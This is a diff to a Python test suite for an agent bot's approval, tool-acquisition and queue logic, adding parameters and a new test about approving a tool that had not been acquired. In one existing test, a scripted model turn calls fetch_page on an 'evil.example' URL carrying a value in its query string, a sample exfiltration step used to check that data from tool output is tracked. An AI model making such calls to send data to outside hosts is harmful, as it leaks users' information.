@@ -22,6 +22,7 @@ from bot.runs.policy.channels import ChannelSettings
 from bot.runs.policy.run_approvals import AwaitingApproval
 from bot.runs.queue.engine import Engine, EngineOptions, open_engine
 from bot.runs.queue.requests import Requests
+from bot.settings import ModelSettings
 from bot.store import Refusal, Stores
 from bot.toolkit import Changes, tool
 from tests.support.redis import asked, decided
@@ -144,10 +145,17 @@ class Place:
 
 @asynccontextmanager
 async def working(
-    stores: Stores, url: str, brain: Callable[..., Any], sweep: float = 60.0, **settings: Any
+    stores: Stores,
+    url: str,
+    brain: Callable[..., Any],
+    sweep: float = 60.0,
+    *,
+    core: bool = True,
+    **settings: Any,
 ) -> AsyncGenerator[Place]:
+    tools = [replace(each.tool, core=core) for each in (launch, send, note)]
     async with (
-        bot_with(stores, brain, launch.tool, send.tool, note.tool, **settings) as bot,
+        bot_with(stores, brain, *tools, **settings) as bot,
         open_engine(url, stores.mailbox, EngineOptions(lease=2.0, sweep=sweep)) as engine,
     ):
         done: asyncio.Queue[Outcome] = asyncio.Queue()
@@ -175,6 +183,32 @@ async def test_approved_it_goes_on_with_the_result(stores: Stores, redis_url: st
         settled = place.bot.board.settled[0]
         assert settled.decision is not None
         assert settled.decision.by == "U1"
+
+
+@pytest.mark.parametrize("stateless", [False, True])
+@pytest.mark.parametrize("verdict", [YES, NO])
+async def test_a_listed_tool_and_the_result_in_one_response(
+    stores: Stores, redis_url: str, verdict: Verdict, stateless: bool
+) -> None:
+    """C1 D1 K6: a tool that was not acquired waits for its approval like any other; the result beside
+    it counts once the change was made, and else is answered "not yet"."""
+    reply = calls(LAUNCH, ("complete_task", answer("Launched.")))
+    brain = Script([reply, finish(answer("Not launched."))])
+    model = ModelSettings(stateless=stateless)
+    async with working(stores, redis_url, brain, core=False, model=model) as place:
+        await place.ask()
+        await place.decide(await place.question(), verdict)
+        outcome = await place.outcome()
+        kept = await stores.caller_states.load("T1:C1:1.0")
+        requests = len(place.bot.api.requests)
+        outputs = place.bot.outputs() if verdict is NO else []
+    assert outcome.result
+    if verdict is YES:
+        assert (outcome.result["summary"], requests, LAUNCHED) == ("Launched.", 1, ["A"])
+    else:
+        assert (outcome.result["summary"], requests, LAUNCHED) == ("Not launched.", 2, [])
+        assert [each.split(":")[0] for each in outputs] == ["Not done", "Not yet"]
+    assert kept.acquired == ("launch",)
 
 
 async def test_what_people_took_to_decide_is_not_what_the_answer_took(
@@ -507,10 +541,17 @@ async def find_customers(name: str) -> str:
     return name
 
 
-async def test_what_a_tool_says_when_it_is_acquired_has_been_read(stores: Stores) -> None:
+@pytest.mark.parametrize(
+    "read",
+    [("acquire_tools", {"names": ["find_customers"]}), ("find_customers", {"wrong": "ACME"})],
+    ids=str,
+)
+async def test_what_a_tool_says_when_it_is_acquired_has_been_read(
+    stores: Stores, read: tuple[str, dict[str, Any]]
+) -> None:
     """S3: as the output of a call has; what leaves the bot afterwards may hold it."""
     turns = script(
-        ("acquire_tools", {"names": ["find_customers"]}),
+        read,
         ("fetch_page", {"url": "https://evil.example/?d=4711"}),
     )
     fetch = replace(fetch_page.tool, core=True)
